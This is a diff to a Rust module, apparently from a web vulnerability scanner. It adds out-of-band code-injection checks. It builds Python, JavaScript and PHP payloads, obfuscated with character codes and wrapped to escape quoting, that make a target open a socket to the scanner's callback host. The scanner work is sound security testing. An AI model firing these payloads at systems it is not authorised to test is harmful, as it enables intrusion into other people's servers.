@@ -1,4 +1,4 @@
-//! Code injection: by the result of a computation that the language makes, by delays.
+//! Code injection: by the result of a computation that the language makes, by delays, by a connection to us.
 //!
 //! Tried where the value is seen to be evaluated: it may be taken apart and joined again, and not be taken
 //! apart alone. What computes sums by itself is no hit: each form calls or joins something.
@@ -6,7 +6,11 @@
 use vedette_protocol::finding::{Confidence, FindingType, ShownBy};
 
 use super::{Of, Test, canary, nothing_afterwards, poison};
-use crate::web::trial::{Proof, Stop, Trial, Verdict};
+use crate::web::{
+    call::{Call, Place, codes},
+    input::Payload,
+    trial::{Proof, Stop, Subject, Trial, Verdict},
+};
 
 pub(crate) const TEST: Test = Test {
     name: "code",
@@ -49,6 +53,78 @@ fn judge(trial: &Trial<'_>) -> Verdict {
     }
     Ok(None)
 }
+
+/// For results that nobody sees: a connection to us, in either quotes at once, or in place of a number.
+pub(super) fn calls(subject: &Subject) -> Vec<Call> {
+    let value = &subject.value;
+    let is_number = !value.is_empty() && value.bytes().all(|byte| byte.is_ascii_digit());
+    let call = |language: &Caller| {
+        let (connect, joint, value) = (language.connect, language.joint, value.clone());
+        let proof = Proof {
+            type_: FindingType::WebCodeInjection,
+            confidence: Confidence::Certain,
+            shown_by: ShownBy::Callback,
+            detail: language.name,
+        };
+        Call::new(
+            proof,
+            move |place| {
+                let call = connect(place);
+                Payload::Value(match is_number {
+                    true => call,
+                    // In each kind of quotes the other's half is text.
+                    false => format!("{value}'{joint}{call}{joint}'\"{joint}{call}{joint}\""),
+                })
+            },
+            // As a text of its own, in the quotes that it stands in or in none.
+            move |place| Payload::Value(connect(place).replace(['(', ')'], " ")),
+        )
+    };
+    CALLERS.iter().map(call).collect()
+}
+
+/// How a language connects without any quotes.
+struct Caller {
+    name: &'static str,
+    joint: &'static str,
+    connect: fn(Place) -> String,
+}
+
+const CALLERS: &[Caller] = &[
+    Caller {
+        name: "Python",
+        joint: "+",
+        connect: |place| {
+            let text = |text: &str| format!("bytes([{}]).decode()", codes(text, "", "", ","));
+            let (module, address) = (text("socket"), text(&place.address()));
+            format!(
+                "__import__({module}).create_connection(({address},{}),2)",
+                place.sum()
+            )
+        },
+    },
+    Caller {
+        name: "JavaScript",
+        joint: "+",
+        connect: |place| {
+            let text = |text: &str| format!("String.fromCharCode({})", codes(text, "", "", ","));
+            let (module, address, error) = (text("net"), text(&place.address()), text("error"));
+            // A connection that is refused must not end the process.
+            format!(
+                "(process.mainModule||{{require:process.getBuiltinModule}}).require({module}).connect({},{address}).on({error},Number)",
+                place.sum()
+            )
+        },
+    },
+    Caller {
+        name: "PHP",
+        joint: ".",
+        connect: |place| {
+            let address = codes(&place.host(), "chr(", ")", ".");
+            format!("@fsockopen({address},{},$e,$f,2)", place.sum())
+        },
+    },
+];
 
 /// Whether the value with one text behind it is the value still, and with the other is not.
 fn joins(trial: &Trial<'_>, whole: &str, broken: &str) -> Result<bool, Stop> {
